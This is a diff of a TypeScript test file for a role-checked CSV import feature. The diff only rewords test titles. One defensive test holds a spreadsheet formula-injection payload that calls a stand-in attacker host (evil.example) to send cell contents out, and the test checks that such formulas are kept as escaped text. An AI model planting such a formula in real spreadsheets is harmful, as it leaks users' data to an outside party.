@@ -90,7 +90,7 @@ beforeAll(async () => {
   await insert('units', { floor_id: floor, name: '101', market_rate: 5000 });
 });
 
-it('only positions that add a kind of record import it', async () => {
+it('only positions that can add a kind of record can import it', async () => {
   const allowed: Readonly<Record<string, readonly Name[]>> = {
     residents: ['executive_director', 'nurse', 'sales', 'business_office'],
     units: ['executive_director'],
@@ -121,7 +121,7 @@ it("an import into a community needs a position there, and a neighbor's units ar
   expect((await judge('neighbor', p_id)).errors).toMatchObject([{ at: 2, code: 'HXRIU' }]);
 });
 
-it('kinds and columns that no import has are refused', async () => {
+it('unknown kinds and columns are rejected', async () => {
   for (const kind of [
     'resident_care_levels',
     'community_members',
@@ -153,7 +153,7 @@ it('kinds and columns that no import has are refused', async () => {
   }
 });
 
-it('a cell of a kind that the position may not add is refused', async () => {
+it("a cell of a kind that the position can't add is rejected", async () => {
   const id = await stage('sales', 'residents', [
     { name: 'With birth date', birth_date: '1940-01-01' },
     { name: 'With move-in', unit: '101', moved_in_on: '2026-01-01' },
@@ -199,7 +199,7 @@ it("someone else can't read, finish, or undo an import, even with the same posit
   }
 });
 
-it("a former director can't go on with an import or undo one", async () => {
+it("a former director can't continue or undo an import", async () => {
   const done = await stage('former_director', 'units', [{ floor: 'First', name: '201' }]);
   await succeed(finish('former_director', done, 1));
   const open = await stage('former_director', 'units', [{ floor: 'First', name: '202' }]);
@@ -247,7 +247,7 @@ it('orders in a file can’t be active, reviewed, or ordered by someone else', a
   expect(await codeOf(undone)).toBe('42501');
 });
 
-it('formulas and HTML stay text, and control characters are refused', async () => {
+it('formulas and HTML stay text, and control characters are rejected', async () => {
   const formula = '=HYPERLINK("https://evil.example?x="&A1,"Open")';
   const rows = [
     { name: formula },
@@ -271,7 +271,7 @@ it('formulas and HTML stay text, and control characters are refused', async () =
   expect(named.map(({ name }) => csvCell(String(name)))).toEqual([expect.stringMatching(/^"'=/)]);
 });
 
-it('values of a wrong type are an error of their row, not of the server', async () => {
+it('values of a wrong type are row errors, not server errors', async () => {
   const id = await stage('executive_director', 'units', [
     { floor: 'First', name: '301', capacity: 'two' },
     { floor: 'First', name: '302', capacity: 10_000_000_000 },
@@ -282,7 +282,7 @@ it('values of a wrong type are an error of their row, not of the server', async 
   expect(errors.map(({ at }) => at)).toEqual([2, 3, 4, 5]);
 });
 
-it('a file of more than 5,000 rows is refused', async () => {
+it('a file of more than 5,000 rows is rejected', async () => {
   const { p_id, call } = begin('executive_director', 'units', ['floor', 'name']);
   await succeed(call);
   const send = (from: number) =>
